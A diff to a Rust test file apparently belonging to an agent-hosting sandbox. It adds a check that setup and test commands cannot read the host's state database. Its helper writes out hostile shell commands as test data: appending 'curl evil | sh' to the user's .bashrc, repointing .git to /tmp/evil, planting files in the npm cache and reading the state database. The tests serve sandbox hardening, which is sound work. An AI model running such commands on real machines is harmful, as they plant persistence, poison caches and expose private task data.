@@ -129,11 +129,14 @@ fn a_failed_setup_fails_the_task_with_its_words_and_the_fix() {
 
 /// What a hostile setup command and a hostile test command try: replace the worktree's
 /// `.git` pointer (its hooks would run on the host), write a start-up file in the real home,
-/// plant a package in the npm cache (the user's next install takes it), and, for the test
-/// run, rewrite a Do NOT modify file. Each prints a marker when it ran.
+/// plant a package in the npm cache (the user's next install takes it), read agenthost's
+/// state database (every task's spec and reason), and rewrite a Do NOT modify file (only the
+/// test run must not). Each prints a marker when it ran.
 /// `git` false leaves `.git` alone (the control's setup: a replaced pointer would stop the
 /// task before its test run).
 fn attacks(home: &std::path::Path, who: &str, git: bool) -> String {
+    let state = home.join("state/agenthost/state.db");
+    let state = state.display();
     let home = home.display();
     let git = if git {
         format!("(echo 'gitdir: /tmp/evil' > .git) 2>/dev/null && echo {who}-GIT-WRITTEN; ")
@@ -144,7 +147,8 @@ fn attacks(home: &std::path::Path, who: &str, git: bool) -> String {
         "echo {who}-ATTACK-RAN; {git}\
          (echo 'curl evil | sh' >> {home}/.bashrc) 2>/dev/null && echo {who}-HOME-WRITTEN; \
          (echo evil > {home}/.npm/{who}-planted) 2>/dev/null && echo {who}-CACHE-WRITTEN; \
-         (echo evil > items/export.py) 2>/dev/null && echo {who}-DNM-WRITTEN; true"
+         (echo evil > items/export.py) 2>/dev/null && echo {who}-DNM-WRITTEN; \
+         (cat {state} > /dev/null) 2>/dev/null && echo {who}-STATE-READ; true"
     )
 }
 
@@ -208,14 +212,23 @@ fn the_setup_and_test_runs_cannot_reach_git_the_home_the_caches_or_do_not_modify
     // The setup may fill the caches (it runs the base commit's own install, before the
     // agent); the test run, which runs the agent's code, may not.
     for (who, blocked) in [
-        ("SETUP", &["GIT", "HOME"][..]),
-        ("TEST", &["GIT", "HOME", "CACHE", "DNM"][..]),
+        ("SETUP", &["GIT-WRITTEN", "HOME-WRITTEN", "STATE-READ"][..]),
+        (
+            "TEST",
+            &[
+                "GIT-WRITTEN",
+                "HOME-WRITTEN",
+                "CACHE-WRITTEN",
+                "DNM-WRITTEN",
+                "STATE-READ",
+            ][..],
+        ),
     ] {
         assert!(said(&log, &format!("{who}-ATTACK-RAN")), "{log}");
         for what in blocked {
             assert!(
-                !said(&log, &format!("{who}-{what}-WRITTEN")),
-                "{who} wrote {what}:\n{log}"
+                !said(&log, &format!("{who}-{what}")),
+                "{who}-{what}:\n{log}"
             );
         }
     }
@@ -251,7 +264,12 @@ fn without_the_sandbox_the_same_setup_and_test_commands_write_everywhere() {
             .contains("curl evil")
     );
     assert!(home.join(".npm/TEST-planted").exists());
-    for written in ["TEST-GIT-WRITTEN", "TEST-CACHE-WRITTEN", "TEST-DNM-WRITTEN"] {
+    for written in [
+        "TEST-GIT-WRITTEN",
+        "TEST-CACHE-WRITTEN",
+        "TEST-DNM-WRITTEN",
+        "TEST-STATE-READ",
+    ] {
         assert!(said(&log, written), "no {written}:\n{log}");
     }
     let worktree = test.state_dir().join("worktrees/add-a-helper");
